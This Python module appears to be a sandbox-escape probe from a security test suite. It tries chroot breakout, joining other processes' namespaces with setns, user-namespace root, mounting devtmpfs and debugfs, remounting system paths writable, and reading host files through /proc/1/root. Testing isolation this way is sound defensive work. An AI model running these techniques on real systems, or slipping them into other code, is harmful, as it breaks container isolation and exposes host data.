"""Ways out of the root: new namespaces, mounts, chroot, pivot_root, setns, the host's /proc.

Aim: read
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NEW_USER, NEW_MOUNT = 0x10000000, 0x20000
REMOUNT_WRITABLE, PRIVATE = 32 | 4096, 16384 | 1 << 18
scratch = os.environ.get("TMPDIR", "/tmp").encode()


def look():
    """Claim what is in reach now and was not before."""
    for path in hostile.files:
        hostile.loot(path)
        hostile.loot(f"/proc/1/root{path}")
    # A real root would change the machine's own mounts: it gets a copy of them first.
    if os.geteuid() == 0:
        if libc.unshare(NEW_MOUNT) != 0 or libc.mount(b"", b"/", b"", PRIVATE, None) != 0:
            return
    for top in (b"/", b"/usr", os.path.dirname(os.__file__).encode()):
        libc.mount(b"", top, b"", REMOUNT_WRITABLE, None)
        inside = os.path.join(top.decode(), f"hostile-{hostile.nonce}")
        if hostile.writable(inside, create=True):
            hostile.claim(f"{top.decode()} was made writable")
            hostile.tried(os.unlink, inside)


def climb():
    """A second root inside the first, with the working folder left outside of it."""
    hostile.tried(os.mkdir, scratch + b"/jail")
    hostile.tried(os.chroot, scratch + b"/jail")
    for _ in range(40):
        hostile.tried(os.chdir, "..")
    hostile.tried(os.chroot, ".")
    look()


def enter():
    """The namespaces of other processes."""
    for pid in (1, os.getppid(), hostile.victim):
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts"):
            descriptor = hostile.tried(os.open, f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if descriptor is not None:
                libc.setns(descriptor, 0)
    look()


def unshare():
    """A namespace of one's own, in which one is root."""
    uid = os.getuid()
    if libc.unshare(NEW_USER | NEW_MOUNT) != 0:
        return
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
        hostile.tried(lambda n=name, t=text: open(f"/proc/self/{n}", "w").write(t))
    for kind in (b"proc", b"sysfs", b"devtmpfs", b"cgroup2", b"debugfs"):
        place = scratch + b"/" + kind
        hostile.tried(os.mkdir, place)
        if libc.mount(kind, place, kind, 0, None) == 0 and kind in (b"devtmpfs", b"debugfs"):
            hostile.claim(f"{kind.decode()} was mounted")
    climb()


for task in (look, climb, enter, unshare):
    pid = hostile.fork(task, 20)
    if pid:
        hostile.tried(os.waitpid, pid, 0)
